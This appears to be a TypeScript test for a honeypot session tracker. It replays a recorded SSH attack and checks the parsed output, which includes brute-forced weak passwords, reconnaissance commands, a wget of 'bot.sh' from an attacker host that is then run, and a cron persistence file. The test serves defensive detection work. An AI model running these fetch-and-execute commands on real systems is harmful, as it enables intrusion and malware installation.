import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { test } from 'node:test';
import { Inspector } from '@waspglass/inspect';
import type {
  AuthDocument,
  CommandDocument,
  SessionDocument,
  TerminalDocument,
  WaspglassDocument,
} from '@waspglass/logs';
import { SessionTracker } from '../src/index.ts';

const shared = process.env.WASPGLASS_SHARED ?? resolve(import.meta.dirname, '../../../../shared');
const file = join(shared, 'captures/honeypot-small.scap.gz');

test('a recorded attack: guesses, a scripted root log-in, an interactive one', {
  skip: existsSync(file) ? false : `${file} is missing`,
}, async () => {
  const inspector = new Inspector();
  const documents = new Map<string, WaspglassDocument>();
  const tracker = new SessionTracker(inspector, { host: 'vm', emit: (d) => documents.set(d._id, d) });
  await inspector.readFiles([file]);
  tracker.finish();
  const of = <D extends WaspglassDocument>(dataset: D['event']['dataset']) =>
    [...documents.values()].filter((d): d is D => d.event.dataset === dataset);

  assert.deepEqual(
    of<AuthDocument>('system.auth').map((d) => [
      d.user?.name,
      d.waspglass.password,
      d.event.outcome,
      d.source?.ip,
      d.source?.port,
    ]),
    [
      ['root', 'admin', 'failure', '10.66.0.1', 49272],
      ['root', 'root', 'failure', '10.66.0.1', 49276],
      ['root', 'password', 'failure', '10.66.0.1', 49286],
      ['root', '123456', 'success', '10.66.0.1', 35766],
      ['oracle', 'oracle', 'success', '10.66.0.1', 35772],
    ],
  );

  const [root, oracle, ...more] = of<SessionDocument>('honeypot.session');
  assert.equal(more.length, 0);
  assert.deepEqual([root?.user?.name, root?.waspglass.tty, root?.waspglass.failures_before], ['root', false, 3]);
  assert.deepEqual([oracle?.user?.name, oracle?.waspglass.tty], ['oracle', true]);
  assert.ok(root?.waspglass.ended !== undefined && oracle?.waspglass.ended !== undefined);

  const commands = (id: string | undefined) =>
    of<CommandDocument>('honeypot.command')
      .filter((d) => d.session.id === id)
      .map((d) => d.process?.command_line ?? '');
  const scripted = commands(root?.session.id);
  assert.match(scripted[0] ?? '', /^bash -c uname -a; id; cat/);
  assert.deepEqual(scripted.slice(10, 14), [
    'wget -q http://10.66.0.1:8000/bot.sh -O /tmp/bot.sh',
    'chmod 777 /tmp/bot.sh',
    '/bin/sh /tmp/bot.sh',
    'hostname',
  ]);
  const typed = commands(oracle?.session.id);
  assert.equal(typed[0], '-bash');
  for (const line of ['uname -a', 'whoami', 'wget http://10.66.0.1:8000/bot.sh', 'rm -rf bot.sh'])
    assert.ok(typed.includes(line), line);

  const input = of<TerminalDocument>('honeypot.terminal')
    .filter((d) => d.session.id === oracle?.session.id && d.waspglass.direction === 'input')
    .map((d) => Buffer.from(d.waspglass.data, 'base64').toString())
    .join('');
  assert.match(input, /^uname -a\nw\nwhoami\n/);
  const paths = of('honeypot.file').map((d) => d.message);
  assert.ok(paths.includes('bash: create /etc/cron.hourly/gcc.sh'));
  assert.ok(of('honeypot.connection').some((d) => d.destination?.port === 8000));
});
